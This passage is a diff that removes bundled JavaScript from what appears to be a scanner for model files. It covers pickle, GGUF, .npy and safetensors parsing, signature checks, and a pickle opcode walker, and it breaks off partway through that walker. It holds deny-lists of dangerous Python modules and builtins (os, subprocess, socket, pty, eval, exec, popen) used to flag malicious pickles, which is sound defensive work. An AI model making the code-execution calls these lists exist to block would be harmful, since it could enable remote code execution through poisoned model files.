-    if (!o.ok) {
-      changed.add(file);
-      failures.push({ code: o.code, path: file, message: o.message });
-    } else if (o.digest !== range.resource.digest) {
-      changed.add(file);
-      failures.push({ code: "FILE_CHANGED", path: file, message: "file content does not match the signature" });
-    }
-  });
-  return { failures, filesChecked: byFile.size, bytesHashed };
-}
-function sourceRequest(input, ignorePaths) {
-  const ser = input.serialization;
-  const signed = /* @__PURE__ */ new Map();
-  for (const r of input.resources) {
-    const s3 = ser.method === "shards" ? parseShardName(r.name) : { path: r.name, start: 0, end: -1 };
-    if (!s3) continue;
-    const list2 = signed.get(s3.path) ?? [];
-    list2.push([s3.start, s3.end]);
-    signed.set(s3.path, list2);
-  }
-  return {
-    alg: ser.hash_type,
-    allowSymlinks: ser.allow_symlinks,
-    ignorePaths,
-    signedPaths: new Set(signed.keys()),
-    ...input.engine?.onProgress ? { onProgress: input.engine.onProgress } : {},
-    ranges: (name2, size) => {
-      const list2 = signed.get(name2);
-      if (!list2 || ser.method === "files") return plannedRanges("files", void 0, size);
-      return list2;
-    }
-  };
-}
-var init_files = __esm({
-  "src/verify/files.ts"() {
-    "use strict";
-    init_errors();
-    init_algorithms2();
-    init_engine();
-    init_enumerate();
-    init_paths();
-    init_source();
-  }
-});
-
-// src/util/one-line.ts
-function clean3(text, max = 200) {
-  const flat = text.replace(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/g, "?");
-  return flat.length > max ? `${flat.slice(0, max)}\u2026` : flat;
-}
-var init_one_line = __esm({
-  "src/util/one-line.ts"() {
-    "use strict";
-  }
-});
-
-// src/scan/npy.ts
-async function readNpyHeader(src) {
-  if (!await src.ensure(10)) return { ok: false, problem: "file is too short for a .npy header" };
-  const head = src.take(8);
-  if (!head.subarray(0, 6).equals(NPY_MAGIC)) return { ok: false, problem: "missing the \\x93NUMPY magic" };
-  const major = head[6];
-  if (major < 1 || major > 3) return { ok: false, problem: `unsupported .npy version ${major}` };
-  const len = major === 1 ? (await src.read(2)).readUInt16LE(0) : (await src.read(4)).readUInt32LE(0);
-  if (len > 1 << 20) return { ok: false, problem: `header length ${len} is implausibly large` };
-  if (!await src.ensure(len)) return { ok: false, problem: "header runs past the end of the file" };
-  const header = src.take(len).toString(major === 3 ? "utf8" : "latin1");
-  if (!/'descr'\s*:/.test(header)) return { ok: false, problem: "header has no descr" };
-  const objectDtype = /['"][|<>=]?O\d*['"]/.test(header) || /object/.test(header);
-  return { ok: true, objectDtype, header: header.trim() };
-}
-var NPY_MAGIC;
-var init_npy = __esm({
-  "src/scan/npy.ts"() {
-    "use strict";
-    NPY_MAGIC = Buffer.from([147, 78, 85, 77, 80, 89]);
-  }
-});
-
-// src/scan/detect.ts
-function ext(name2) {
-  const base2 = name2.slice(name2.lastIndexOf("/") + 1).toLowerCase();
-  const i = base2.lastIndexOf(".");
-  return i <= 0 ? "" : base2.slice(i);
-}
-function looksLikeOldPickle(head) {
-  const t = head.toString("latin1");
-  return /^\(?[ci][A-Za-z_][\w.]*\n[A-Za-z_][\w.]*\n[(pq)N}\]SVIFKJMXUR.\x85\x86\x87]/.test(t) || /^\((?:dp\d+\n|lp\d+\n|t[.Rp])/.test(t) || /^[}\]](?:q\x00|\(|\.)/.test(t);
-}
-function sniff(head, name2) {
-  if (head.length >= 4 && head[0] === 80 && head[1] === 75 && (head[2] === 3 && head[3] === 4 || head[2] === 5 && head[3] === 6)) return "zip";
-  if (head.length >= 6 && head.subarray(0, 6).equals(NPY_MAGIC)) return "npy";
-  if (head.length >= 4 && head.toString("latin1", 0, 4) === "GGUF") return "gguf";
-  if (head.length >= 9 && head[8] === 123 && head.readBigUInt64LE(0) < 100000000n) return "safetensors";
-  if (head.length >= 2 && head[0] === 128 && head[1] <= 5) return "pickle";
-  const e = ext(name2);
-  if (looksLikeOldPickle(head)) return "pickle";
-  if (e === ".safetensors") return "safetensors";
-  if (e === ".gguf") return "gguf";
-  if (e === ".npy") return "npy";
-  if (e === ".npz" || e === ".zip") return "zip";
-  if (e !== ".bin" && PICKLE_EXTENSIONS.includes(e)) return "pickle";
-  return "unknown";
-}
-function memberWorthScanning(name2) {
-  const e = ext(name2);
-  return PICKLE_EXTENSIONS.includes(e) || e === ".npy" || e === ".safetensors" || e === ".gguf";
-}
-var PICKLE_EXTENSIONS, SNIFF_BYTES;
-var init_detect = __esm({
-  "src/scan/detect.ts"() {
-    "use strict";
-    init_npy();
-    PICKLE_EXTENSIONS = [".pkl", ".pickle", ".bin", ".pt", ".pth", ".ckpt", ".joblib"];
-    SNIFF_BYTES = 64;
-  }
-});
-
-// src/scan/source.ts
-import { createReadStream } from "node:fs";
-var Truncated, ByteSource;
-var init_source2 = __esm({
-  "src/scan/source.ts"() {
-    "use strict";
-    Truncated = class extends Error {
-      constructor(at2) {
-        super(`unexpected end of data at offset ${at2}`);
-        this.at = at2;
-      }
-    };
-    ByteSource = class _ByteSource {
-      constructor(it2, size) {
-        this.it = it2;
-        this.size = size;
-      }
-      buf = Buffer.alloc(0);
-      off = 0;
-      done = false;
-      /** Absolute offset of the next unread byte. */
-      pos = 0;
-      static fromFile(file, start = 0, end) {
-        if (end !== void 0 && end <= start) return _ByteSource.fromBuffer(Buffer.alloc(0));
-        const s3 = createReadStream(file, { start, ...end !== void 0 ? { end: end - 1 } : {}, highWaterMark: 1 << 20 });
-        const src = new _ByteSource(s3[Symbol.asyncIterator](), end !== void 0 ? end - start : void 0);
-        src.pos = 0;
-        return src;
-      }
-      static fromBuffer(b2) {
-        const src = new _ByteSource((async function* () {
-        })(), b2.length);
-        src.buf = b2;
-        src.done = true;
-        return src;
-      }
-      static fromIterable(it2, size) {
-        return new _ByteSource(it2[Symbol.asyncIterator](), size);
-      }
-      get buffered() {
-        return this.buf.length - this.off;
-      }
-      static toBuf(v2) {
-        return typeof v2 === "string" ? Buffer.from(v2, "latin1") : Buffer.isBuffer(v2) ? v2 : Buffer.from(v2.buffer, v2.byteOffset, v2.byteLength);
-      }
-      /** Buffer at least n bytes; false when the data ends first. */
-      async ensure(n) {
-        if (this.buffered >= n) return true;
-        const parts = [this.buf.subarray(this.off)];
-        let have = parts[0].length;
-        while (have < n && !this.done) {
-          const r = await this.it.next();
-          if (r.done) {
-            this.done = true;
-            break;
-          }
-          const b2 = _ByteSource.toBuf(r.value);
-          parts.push(b2);
-          have += b2.length;
-        }
-        this.buf = parts.length === 1 ? parts[0] : Buffer.concat(parts, have);
-        this.off = 0;
-        return have >= n;
-      }
-      /** Only after ensure(n). */
-      u8() {
-        this.pos++;
-        return this.buf[this.off++];
-      }
-      /** Only after ensure(n); the returned view is valid until the next read. */
-      take(n) {
-        const b2 = this.buf.subarray(this.off, this.off + n);
-        this.off += n;
-        this.pos += n;
-        return b2;
-      }
-      peek(n) {
-        return this.buf.subarray(this.off, this.off + n);
-      }
-      async read(n) {
-        if (!await this.ensure(n)) throw new Truncated(this.pos + this.buffered);
-        return this.take(n);
-      }
-      /** Drop n bytes (streamed past, never buffered whole). */
-      async skip(n) {
-        while (n > 0) {
-          if (this.buffered === 0 && !await this.ensure(1)) throw new Truncated(this.pos);
-          const k2 = Math.min(n, this.buffered);
-          this.off += k2;
-          this.pos += k2;
-          n -= k2;
-        }
-      }
-      /** Read the rest and return how many bytes there were. */
-      async drain() {
-        let n = 0;
-        for (; ; ) {
-          if (this.buffered === 0 && !await this.ensure(1)) return n;
-          n += this.buffered;
-          this.pos += this.buffered;
-          this.off = this.buf.length;
-        }
-      }
-      /** A line ending in "\n" (without it), at most max bytes; undefined if longer. */
-      async line(max) {
-        let scanned = 0;
-        for (; ; ) {
-          const idx = this.buf.indexOf(10, this.off + scanned);
-          if (idx >= 0 && idx - this.off <= max) {
-            const b2 = this.buf.subarray(this.off, idx);
-            const n = idx - this.off + 1;
-            this.off += n;
-            this.pos += n;
-            return b2;
-          }
-          if (idx >= 0 || this.buffered > max) return void 0;
-          scanned = this.buffered;
-          if (!await this.ensure(this.buffered + 1)) throw new Truncated(this.pos + this.buffered);
-        }
-      }
-      async atEnd() {
-        return !await this.ensure(1);
-      }
-      async close() {
-        this.done = true;
-        try {
-          await this.it.return?.();
-        } catch {
-        }
-      }
-    };
-  }
-});
-
-// src/scan/gguf.ts
-async function checkGguf(src, size, file, limits, member) {
-  const findings = [];
-  const add = (code, message, severity = "high") => findings.push({ code, severity, file, ...member !== void 0 ? { member } : {}, message });
-  const left = () => size - src.pos;
-  const u323 = async () => (await src.read(4)).readUInt32LE(0);
-  const u64 = async (what) => {
-    const v2 = (await src.read(8)).readBigUInt64LE(0);
-    if (v2 > BigInt(Number.MAX_SAFE_INTEGER)) throw new Bad(`${what} ${v2} is impossibly large`);
-    return Number(v2);
-  };
-  let version = 0;
-  const count = async (what) => version === 1 ? u323() : u64(what);
-  const string = async (what, keep) => {
-    const n = await count(`${what} length`);
-    if (n > limits.maxGgufString) throw new Bad(`${what} length ${n} exceeds the ${limits.maxGgufString}-byte limit`);
-    if (n > left()) throw new Bad(`${what} length ${n} runs past the end of the file`);
-    if (!keep) {
-      await src.skip(n);
-      return void 0;
-    }
-    return (await src.read(n)).toString("utf8");
-  };
-  try {
-    if (size < 8 || !await src.ensure(4) || src.peek(4).toString("latin1") !== "GGUF") {
-      const got = await src.ensure(4) ? JSON.stringify(src.peek(4).toString("latin1")) : "too few bytes";
-      add("GGUF_BAD_MAGIC", `not a GGUF file: magic is ${got}, expected "GGUF"`);
-      return findings;
-    }
-    await src.skip(4);
-    version = await u323();
-    if (version < 1 || version > 3) {
-      add("GGUF_VERSION", `unsupported GGUF version ${version} (known: 1-3)`);
-      return findings;
-    }
-    const tensors = await count("tensor count");
-    const kvs = await count("key/value count");
-    if (tensors > limits.maxGgufCount) throw new Bad(`tensor count ${tensors} exceeds the limit of ${limits.maxGgufCount}`);
-    if (kvs > limits.maxGgufCount) throw new Bad(`key/value count ${kvs} exceeds the limit of ${limits.maxGgufCount}`);
-    if (kvs * 12 + tensors * 24 > left()) throw new Bad(`${tensors} tensors and ${kvs} key/values cannot fit in ${size} bytes`);
-    let alignment = 32;
-    const value = async (type, key, depth) => {
-      const w2 = FIXED[type];
-      if (w2 !== void 0) {
-        if (key === "general.alignment" && type === 4) {
-          alignment = await u323();
-          return;
-        }
-        await src.read(w2);
-        return;
-      }
-      if (type === GGUF_STRING) {
-        await string(`value of ${key}`, false);
-        return;
-      }
-      if (type === GGUF_ARRAY) {
-        if (depth > 2) throw new Bad(`array nesting too deep in ${key}`);
-        const et2 = await u323();
-        const n = await count(`array length of ${key}`);
-        if (n > limits.maxGgufArray) throw new Bad(`array ${key} has ${n} elements, more than the limit of ${limits.maxGgufArray}`);
-        const ew = FIXED[et2];
-        if (ew !== void 0) {
-          if (n * ew > left()) throw new Bad(`array ${key} (${n} x ${ew} bytes) runs past the end of the file`);
-          await src.skip(n * ew);
-          return;
-        }
-        if (et2 !== GGUF_STRING && et2 !== GGUF_ARRAY) throw new Bad(`array ${key} has unknown element type ${et2}`);
-        if (n * 8 > left()) throw new Bad(`array ${key} of ${n} elements runs past the end of the file`);
-        if (et2 === GGUF_ARRAY) {
-          for (let i = 0; i < n; i++) await value(et2, key, depth + 1);
-          return;
-        }
-        const lenBytes = version === 1 ? 4 : 8;
-        for (let i = 0; i < n; i++) {
-          if (src.buffered < lenBytes && !await src.ensure(lenBytes)) throw new Truncated(src.pos + src.buffered);
-          const b2 = src.take(lenBytes);
-          const len = lenBytes === 4 ? b2.readUInt32LE(0) : Number(b2.readBigUInt64LE(0));
-          if (len > limits.maxGgufString) throw new Bad(`string ${i} of array ${key} is ${len} bytes, over the ${limits.maxGgufString}-byte limit`);
-          if (len > left()) throw new Bad(`string ${i} of array ${key} runs past the end of the file`);
-          if (src.buffered >= len) src.take(len);
-          else await src.skip(len);
-        }
-        return;
-      }
-      throw new Bad(`key ${key} has unknown value type ${type}`);
-    };
-    for (let i = 0; i < kvs; i++) {
-      const key = await string(`key ${i}`, true);
-      const type = await u323();
-      await value(type, JSON.stringify(key.slice(0, 120)), 0);
-    }
-    if (alignment === 0 || (alignment & alignment - 1) !== 0) throw new Bad(`general.alignment ${alignment} is not a power of two`);
-    const infos = [];
-    for (let i = 0; i < tensors; i++) {
-      const name2 = await string(`tensor ${i} name`, true);
-      const dims = await u323();
-      if (dims > MAX_DIMS) throw new Bad(`tensor ${JSON.stringify(name2.slice(0, 120))} has ${dims} dimensions (at most ${MAX_DIMS})`);
-      let elems = 1n;
-      for (let d = 0; d < dims; d++) elems *= BigInt(await u64("dimension"));
-      const type = await u323();
-      const offset = await u64("tensor offset");
-      const block = GGML_BLOCKS[type];
-      let bytes;
-      if (block) {
-        if (elems % BigInt(block[0]) !== 0n) throw new Bad(`tensor ${JSON.stringify(name2.slice(0, 120))} has ${elems} elements, not a multiple of its type's block of ${block[0]}`);
-        const b2 = elems / BigInt(block[0]) * BigInt(block[1]);
-        if (b2 > BigInt(size)) throw new Bad(`tensor ${JSON.stringify(name2.slice(0, 120))} needs ${b2} bytes, more than the whole file`);
-        bytes = Number(b2);
-      } else if (type > 63) {
-        add("GGUF_TENSOR", `tensor ${JSON.stringify(name2.slice(0, 120))} has unknown type ${type}`, "medium");
-      }
-      infos.push({ name: name2, offset, bytes });
-    }
-    const dataStart = Math.ceil(src.pos / alignment) * alignment;
-    const dataLen = size - dataStart;
-    if (tensors > 0 && dataLen < 0) throw new Bad("tensor data would start past the end of the file");
-    for (const t of infos) {
-      const shown = JSON.stringify(t.name.slice(0, 120));
-      if (t.offset % alignment !== 0) add("GGUF_TENSOR", `tensor ${shown} offset ${t.offset} is not aligned to ${alignment}`);
-      if (t.offset + (t.bytes ?? 0) > dataLen) add("GGUF_TENSOR", `tensor ${shown} (offset ${t.offset}${t.bytes !== void 0 ? `, ${t.bytes} bytes` : ""}) lies outside the ${dataLen} data bytes`);
-    }
-    infos.sort((a, b2) => a.offset - b2.offset);
-    for (let i = 1; i < infos.length; i++) {
-      const p2 = infos[i - 1];
-      if (p2.bytes !== void 0 && p2.offset + p2.bytes > infos[i].offset) add("GGUF_TENSOR", `tensors ${JSON.stringify(p2.name.slice(0, 120))} and ${JSON.stringify(infos[i].name.slice(0, 120))} overlap`);
-    }
-  } catch (e) {
-    if (e instanceof Bad) add("GGUF_MALFORMED", e.message);
-    else if (e instanceof Truncated) add("GGUF_MALFORMED", `file ends inside the GGUF header (${e.message})`);
-    else throw e;
-  }
-  return findings;
-}
-var FIXED, GGUF_STRING, GGUF_ARRAY, MAX_DIMS, GGML_BLOCKS, Bad;
-var init_gguf = __esm({
-  "src/scan/gguf.ts"() {
-    "use strict";
-    init_source2();
-    FIXED = { 0: 1, 1: 1, 2: 2, 3: 2, 4: 4, 5: 4, 6: 4, 7: 1, 10: 8, 11: 8, 12: 8 };
-    GGUF_STRING = 8;
-    GGUF_ARRAY = 9;
-    MAX_DIMS = 4;
-    GGML_BLOCKS = {
-      0: [1, 4],
-      1: [1, 2],
-      2: [32, 18],
-      3: [32, 20],
-      6: [32, 22],
-      7: [32, 24],
-      8: [32, 34],
-      9: [32, 36],
-      10: [256, 84],
-      11: [256, 110],
-      12: [256, 144],
-      13: [256, 176],
-      14: [256, 210],
-      15: [256, 292],
-      24: [1, 1],
-      25: [1, 2],
-      26: [1, 4],
-      27: [1, 8],
-      28: [1, 8],
-      30: [1, 2]
-    };
-    Bad = class extends Error {
-    };
-  }
-});
-
-// src/scan/globals.ts
-function canonicalModule(module) {
-  const first = module.split(".")[0];
-  const mapped = PY2_MODULES[first];
-  return mapped === void 0 ? module : mapped + module.slice(first.length);
-}
-function underPrefix(full, prefix) {
-  return full === prefix || full.startsWith(`${prefix}.`);
-}
-function classifyGlobal(module, name2) {
-  const mod = canonicalModule(module);
-  const full = `${mod}.${name2}`;
-  if (ALLOWED.has(full) || TORCH_STORAGE.test(full) || NUMPY_DTYPE_CLASS.test(full)) return { verdict: "allowed" };
-  for (const m2 of DANGEROUS_MODULES) if (underPrefix(full, m2)) return { verdict: "dangerous", why: `${m2} is on the deny-list` };
-  const segs = full.split(".");
-  if (segs[0] === "builtins" && segs.length >= 2 && DANGEROUS_BUILTINS.has(segs[1])) return { verdict: "dangerous", why: `builtin ${segs[1]} can run code or reach any object` };
-  for (const s3 of segs.slice(1)) {
-    if (DANGEROUS_SEGMENTS.has(s3)) return { verdict: "dangerous", why: `reaches "${s3}" through attribute lookup` };
-    if (/^__.*__$/.test(s3)) return { verdict: "dangerous", why: `reaches the dunder attribute ${s3}` };
-  }
-  if (name2 === "" || module === "" || !/^[A-Za-z_][A-Za-z0-9_.]*$/.test(module) || !/^[A-Za-z_][A-Za-z0-9_.]*$/.test(name2)) {
-    return { verdict: "dangerous", why: "not a valid Python name" };
-  }
-  return { verdict: "unknown" };
-}
-var PY2_MODULES, TORCH_REBUILD, TORCH_DTYPES, ALLOWED, TORCH_STORAGE, NUMPY_DTYPE_CLASS, DANGEROUS_MODULES, DANGEROUS_BUILTINS, DANGEROUS_SEGMENTS;
-var init_globals = __esm({
-  "src/scan/globals.ts"() {
-    "use strict";
-    PY2_MODULES = { __builtin__: "builtins", copy_reg: "copyreg", exceptions: "builtins" };
-    TORCH_REBUILD = [
-      "_rebuild_tensor",
-      "_rebuild_tensor_v2",
-      "_rebuild_tensor_v3",
-      "_rebuild_parameter",
-      "_rebuild_parameter_with_state",
-      "_rebuild_sparse_tensor",
-      "_rebuild_sparse_csr_tensor",
-      "_rebuild_qtensor",
-      "_rebuild_nested_tensor",
-      "_rebuild_device_tensor_from_numpy",
-      "_rebuild_meta_tensor_no_storage",
-      "_rebuild_device_tensor_from_cpu_tensor"
-    ];
-    TORCH_DTYPES = [
-      "float16",
-      "float32",
-      "float64",
-      "bfloat16",
-      "half",
-      "float",
-      "double",
-      "complex32",
-      "complex64",
-      "complex128",
-      "cfloat",
-      "cdouble",
-      "uint8",
-      "uint16",
-      "uint32",
-      "uint64",
-      "int8",
-      "int16",
-      "int32",
-      "int64",
-      "short",
-      "int",
-      "long",
-      "bool",
-      "float8_e4m3fn",
-      "float8_e5m2",
-      "float8_e4m3fnuz",
-      "float8_e5m2fnuz",
-      "qint8",
-      "quint8",
-      "qint32",
-      "quint4x2",
-      "contiguous_format",
-      "channels_last",
-      "channels_last_3d",
-      "preserve_format"
-    ];
-    ALLOWED = /* @__PURE__ */ new Set([
-      ...TORCH_REBUILD.map((n) => `torch._utils.${n}`),
-      ...TORCH_DTYPES.map((n) => `torch.${n}`),
-      "torch.Size",
-      "torch.device",
-      "torch.Tensor",
-      "torch.nn.parameter.Parameter",
-      "torch._tensor._rebuild_from_type_v2",
-      "torch.serialization._get_layout",
-      "torch.sparse_coo",
-      "torch.strided",
-      // TorchScript archives rebuild lists and tensors with these.
-      "torch.jit._pickle.build_intlist",
-      "torch.jit._pickle.build_doublelist",
-      "torch.jit._pickle.build_boollist",
-      "torch.jit._pickle.build_tensorlist",
-      "torch.jit._pickle.build_tensor_from_id",
-      "torch.jit._pickle.restore_type_tag",
-      "collections.OrderedDict",
-      "builtins.set",
-      "builtins.frozenset",
-      "builtins.dict",
-      "builtins.list",
-      "builtins.tuple",
-      "builtins.bytearray",
-      "builtins.bytes",
-      "builtins.str",
-      "builtins.int",
-      "builtins.float",
-      "builtins.complex",
-      "builtins.bool",
-      "builtins.slice",
-      "builtins.object",
-      "_codecs.encode",
-      // protocol 2 writes bytes as _codecs.encode(str, "latin1")
-      "copyreg._reconstructor",
-      // protocol 0/1 object rebuild; the class it builds is checked on its own
-      "numpy.core.multiarray._reconstruct",
-      "numpy._core.multiarray._reconstruct",
-      "numpy.core.multiarray.scalar",
-      "numpy._core.multiarray.scalar",
-      "numpy.core.numeric._frombuffer",
-      "numpy._core.numeric._frombuffer",
-      "numpy.dtype",
-      "numpy.ndarray",
-      "joblib.numpy_pickle.NumpyArrayWrapper",
-      "sklearn.externals.joblib.numpy_pickle.NumpyArrayWrapper"
-    ]);
-    TORCH_STORAGE = /^torch\.(?:cuda\.)?[A-Za-z0-9]*Storage$/;
-    NUMPY_DTYPE_CLASS = /^numpy\.dtypes\.[A-Za-z0-9]+DType$/;
-    DANGEROUS_MODULES = [
-      "os",
-      "posix",
-      "nt",
-      "posixpath",
-      "ntpath",
-      "subprocess",
-      "pty",
-      "sys",
-      "socket",
-      "ssl",
-      "shutil",
-      "runpy",
-      "importlib",
-      "imp",
-      "pkgutil",
-      "zipimport",
-      "pickle",
-      "_pickle",
-      "cPickle",
-      "pickletools",
-      "marshal",
-      "dill",
-      "cloudpickle",
-      "joblib.load",
-      "shelve",
-      "types",
-      "code",
-      "codeop",
-      "ctypes",
-      "_ctypes",
-      "cffi",
-      "multiprocessing",
-      "concurrent",
-      "threading",
-      "_thread",
-      "asyncio",
-      "signal",
-      "resource",
-      "webbrowser",
-      "requests",
-      "urllib",
-      "urllib2",
-      "urllib3",
-      "httplib",
-      "http",
-      "httpx",
-      "aiohttp",
-      "ftplib",
-      "smtplib",
-      "telnetlib",
-      "poplib",
-      "imaplib",
-      "xmlrpc",
-      "socketserver",
-      "commands",
-      "pdb",
-      "bdb",
-      "timeit",
-      "cProfile",
-      "profile",
-      "trace",
-      "doctest",
-      "io",
-      "_io",
-      "tempfile",
-      "glob",
-      "fileinput",
-      "pathlib",
-      "sqlite3",
-      "builtins.eval",
-      "operator.attrgetter",
-      "operator.methodcaller",
-      "gc",
-      "inspect",
-      "site",
-      "sysconfig",
-      "venv",
-      "ensurepip",
-      "pip",
-      "setuptools",
-      "distutils",
-      "platform",
-      "uuid._popen",
-      "torch.hub",
-      "torch.load",
-      "torch.storage._load_from_bytes",
-      "torch.serialization.load",
-      "torch.jit.load",
-      "torch.jit._load_for_lite_interpreter",
-      "torch._dynamo",
-      "torch.utils.cpp_extension",
-      "numpy.load",
-      "numpy.testing",
-      "numpy.f2py",
-      "numpy.distutils",
-      "numpy.ctypeslib",
-      "pandas.read_pickle",
-      "keras.models",
-      "tensorflow.io",
-      "bz2",
-      "lzma",
-      "gzip",
-      "zipfile",
-      "tarfile",
-      "mmap",
-      "fcntl",
-      "termios",
-      "tty",
-      "pwd",
-      "grp",
-      "crypt",
-      "spwd",
-      "syslog",
-      "select"
-    ];
-    DANGEROUS_BUILTINS = /* @__PURE__ */ new Set([
-      "eval",
-      "exec",
-      "execfile",
-      "compile",
-      "open",
-      "file",
-      "getattr",
-      "setattr",
-      "delattr",
-      "hasattr",
-      "__import__",
-      "globals",
-      "locals",
-      "vars",
-      "input",
-      "raw_input",
-      "breakpoint",
-      "apply",
-      "reload",
-      "help",
-      "memoryview",
-      "exit",
-      "quit"
-    ]);
-    DANGEROUS_SEGMENTS = /* @__PURE__ */ new Set([
-      "os",
-      "posix",
-      "nt",
-      "subprocess",
-      "sys",
-      "socket",
-      "shutil",
-      "runpy",
-      "importlib",
-      "pickle",
-      "marshal",
-      "builtins",
-      "__builtin__",
-      "__builtins__",
-      "system",
-      "popen",
-      "spawn",
-      "execv",
-      "execve",
-      "execl",
-      "execvp",
-      "fork",
-      "eval",
-      "exec",
-      "compile",
-      "getattr",
-      "setattr",
-      "__import__",
-      "import_module",
-      "load",
-      "loads",
-      "open"
-    ]);
-  }
-});
-
-// src/scan/pickle.ts
-import { isUtf8 } from "node:buffer";
-function describe(v2) {
-  if (v2 === void 0) return "nothing (empty stack)";
-  switch (v2.k) {
-    case "mark":
-      return "a MARK";
-    case "str":
-      return JSON.stringify(v2.s.slice(0, 80));
-    case "global":
-      return `the global ${v2.g.module}.${v2.g.name}`;
-    case "obj":
-      return `an object made by ${v2.g.module}.${v2.g.name}`;
-    default:
-      return `a ${v2.what}`;
-  }
-}
-function decodeQuoted(line) {
-  const t = line.toString("latin1");
-  if (t.length < 2 || t[0] !== "'" && t[0] !== '"' || t[t.length - 1] !== t[0]) return void 0;
-  const body = t.slice(1, -1);
-  if (!body.includes("\\")) return body;
-  let out2 = "";
-  for (let i = 0; i < body.length; i++) {
-    const c = body[i];
-    if (c !== "\\") {
-      out2 += c;
-      continue;
-    }
-    const e = body[++i];
-    if (e === void 0) return void 0;
-    const simple = { n: "\n", t: "	", r: "\r", "\\": "\\", "'": "'", '"': '"', a: "\x07", b: "\b", f: "\f", v: "\v", "\n": "" };
-    if (simple[e] !== void 0) out2 += simple[e];
-    else if (e === "x" && /^[0-9a-fA-F]{2}$/.test(body.slice(i + 1, i + 3))) {
-      out2 += String.fromCharCode(parseInt(body.slice(i + 1, i + 3), 16));
-      i += 2;
-    } else if (/[0-7]/.test(e)) {
-      const m2 = /^[0-7]{1,3}/.exec(body.slice(i))[0];
-      out2 += String.fromCharCode(parseInt(m2, 8) & 255);
-      i += m2.length - 1;
-    } else out2 += `\\${e}`;
-  }
-  return out2;
-}
-function decodeRawUnicode(line) {
-  const t = line.toString("latin1");
-  let out2 = "";
-  for (let i = 0; i < t.length; i++) {
-    if (t[i] === "\\" && (t[i + 1] === "u" || t[i + 1] === "U")) {
-      const n = t[i + 1] === "u" ? 4 : 8;
-      const hex = t.slice(i + 2, i + 2 + n);
-      if (!new RegExp(`^[0-9a-fA-F]{${n}}$`).test(hex)) return void 0;
-      const cp2 = parseInt(hex, 16);
-      if (cp2 > 1114111) return void 0;
-      out2 += String.fromCodePoint(cp2);
-      i += 1 + n;
-    } else out2 += t[i];
-  }
-  return out2;
-}
-function utf8(b2) {
-  if (!isUtf8(b2)) throw new Malformed("string is not valid UTF-8");
-  return b2.toString("utf8");
-}
-async function walkPickles(src, opts) {
-  const { limits } = opts;
-  const imports = /* @__PURE__ */ new Map();
-  const findings = [];
-  const base2 = { file: opts.file, ...opts.member !== void 0 ? { member: opts.member } : {} };
-  const add = (severity, code, message, offset, global2) => {
-    findings.push({ ...base2, code, severity, message, ...offset !== void 0 ? { offset } : {}, ...global2 !== void 0 ? { global: global2 } : {} });
-  };
-  let opcodes = 0;
-  let pickles = 0;
-  let stringBytes = 0;
-  let legacyTorch = false;
-  const interned = /* @__PURE__ */ new Map();
-  const globalOf = (module, name2) => {
-    const k2 = `${module}
-${name2}`;
-    let g2 = interned.get(k2);
-    if (!g2) {
-      if (interned.size >= limits.maxImports) throw new LimitHit(`more than ${limits.maxImports} distinct imported globals`);
-      g2 = { module, name: name2 };
-      interned.set(k2, g2);
-    }
-    return g2;
-  };
-  const record = (g2, via, use) => {
-    const key = g2;
-    let imp = imports.get(key);
-    if (!imp) {
-      imp = { module: g2.module, name: g2.name, via: [], usedBy: [], verdict: classifyGlobal(g2.module, g2.name).verdict, ...opts.member !== void 0 ? { member: opts.member } : {} };
-      imports.set(key, imp);
-    }
-    if (via && !imp.via.includes(via)) imp.via.push(via);
-    if (use && !imp.usedBy.includes(use)) imp.usedBy.push(use);
-  };
-  const used = (v2, use) => {
-    if (v2 && (v2.k === "global" || v2.k === "obj")) record(v2.g, void 0, use);
-  };
-  const str3 = (b2, enc) => {
-    if (b2.length > MAX_KEPT_STRING || stringBytes + b2.length > limits.maxStringBytes) return LONGSTR;
-    stringBytes += b2.length;
-    if (enc === "latin1") return { k: "str", s: b2.toString("latin1") };
-    return { k: "str", s: utf8(b2) };
-  };
-  const walkOne = async () => {
-    const stack = [];
-    const marks = [];
-    const memo = /* @__PURE__ */ new Map();
-    const push = (v2) => {
-      if (stack.length >= limits.maxStack) throw new LimitHit(`stack deeper than ${limits.maxStack}`);
-      stack.push(v2);
-    };
-    const pop = () => {
-      if (stack.length === 0 || marks.length > 0 && stack.length <= marks[marks.length - 1]) throw new Malformed("pop from an empty stack");
-      return stack.pop();
-    };
-    const popMark = () => {
-      const m2 = marks.pop();
-      if (m2 === void 0) throw new Malformed("no MARK to pop to");
-      return stack.splice(m2);
-    };
-    const top = () => {
-      if (stack.length === 0) throw new Malformed("empty stack");
-      return stack[stack.length - 1];
-    };
-    const fixed = (n) => {
-      if (src.buffered < n) throw new Truncated(src.pos + src.buffered);
-      return src.take(n);
-    };
-    const size8 = (b2) => {
-      const v2 = b2.readBigUInt64LE(0);
-      if (v2 > BigInt(Number.MAX_SAFE_INTEGER)) throw new Malformed("length too large");
-      return Number(v2);
-    };
-    const lenStr = async (n, enc) => {
-      if (n > MAX_KEPT_STRING) {
-        await src.skip(n);
-        return LONGSTR;
-      }
-      if (src.buffered < n) await src.ensure(n);
-      return str3(Buffer.from(fixed(n)), enc);
-    };
-    const skipBytes = async (n) => {
-      if (src.buffered >= n) src.take(n);
-      else await src.skip(n);
-      return BYTES;
-    };
-    const line = async (what) => {
-      const l = await src.line(MAX_LINE);
-      if (l === void 0) throw new Malformed(`${what} argument longer than ${MAX_LINE} bytes`);
-      return Buffer.from(l);
-    };
-    const memoPut = (i, v2) => {
-      if (!memo.has(i) && memo.size >= limits.maxMemo) throw new LimitHit(`more than ${limits.maxMemo} memo entries`);
-      memo.set(i, v2);
-    };
-    const memoGet = (i) => {
-      const v2 = memo.get(i);
-      if (v2 === void 0) throw new Malformed(`memo key ${i} was never stored`);
-      push(v2);
-    };
-    const importGlobal = async (via, at2) => {
-      const m2 = await src.line(1024);
-      const n = m2 === void 0 ? void 0 : await src.line(1024);
-      if (m2 === void 0 || n === void 0) throw new Malformed(`${via} name longer than 1024 bytes`);
-      if (!isUtf8(m2) || !isUtf8(n)) throw new Malformed(`${via} name is not valid UTF-8`);
-      const g2 = globalOf(m2.toString("utf8"), n.toString("utf8"));
-      record(g2, via);
-      void at2;
-      return g2;
-    };
-    for (; ; ) {
-      if (++opcodes > limits.maxOpcodes) throw new LimitHit(`more than ${limits.maxOpcodes} opcodes`);
-      if (src.buffered < 16) await src.ensure(16);
-      if (src.buffered < 1) throw new Malformed("pickle ends without STOP");
-      const at2 = src.pos;
-      const op = src.u8();
-      switch (op) {
-        case 40:
-          marks.push(stack.length);
-          break;
-        case 46:
-          pop();
-          return;
-        case 48:
